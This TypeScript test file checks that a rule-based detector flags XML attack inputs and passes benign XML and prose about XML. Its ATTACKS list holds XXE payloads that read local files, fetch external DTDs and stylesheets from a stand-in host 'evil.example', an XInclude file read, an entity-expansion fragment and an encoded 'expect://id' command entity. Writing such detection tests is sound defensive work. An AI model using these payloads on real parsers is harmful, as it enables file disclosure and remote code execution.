import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { createJudge } from '../judge/judge.ts';
import { ALL_RULES } from './all.ts';

const ATTACKS: readonly string[] = [
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
  '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
  '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
  '<!DOCTYPE a PUBLIC "-//X//Y" "ftp://evil.example/a.dtd">',
  '<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;">]>',
  '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></x>',
  '<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?><x/>',
  '<xsl:value-of select="document(\'file:///etc/hostname\')"/>',
  '<?xml version="1.0"?><methodCall><methodName>system.listMethods</methodName></methodCall>',
  '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>',
  '<r xsi:noNamespaceSchemaLocation="file:///etc/hostname"/>',
  '%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20x%20SYSTEM%20%22expect%3A%2F%2Fid%22%3E%5D%3E',
];

const HONEST: readonly string[] = [
  '<reading meter="M1" unit="kWh">3.5</reading>',
  'XML such as <meter id="1"><kwh>3.5</kwh></meter> is accepted as well.',
  'The XML starts with <!DOCTYPE note SYSTEM "note.dtd">; the importer doesn\'t take it.',
  "How's an <!ENTITY> declared in a DTD? I only found &amp; and &lt;.",
  'Fish &amp; chips &copy; 2024',
];

const judge = createJudge({ rules: ALL_RULES });
after(() => judge.dispose());
const scoreOf = (text: string): number => judge.judge(text, 'value')?.score ?? 0;
const said = (text: string): string => JSON.stringify(judge.judge(text, 'value')?.hits);

test('documents that reach for files and addresses are seen', () => {
  // Attack: an XML reader that resolves entities, inclusions or stylesheets reads files for the client.
  for (const payload of ATTACKS) assert.ok(scoreOf(payload) >= 5, `${payload} ${said(payload)}`);
});

test('elements without declarations, and talk about them, pass', () => {
  for (const text of HONEST) assert.ok(scoreOf(text) < 5, `${text} ${said(text)}`);
});
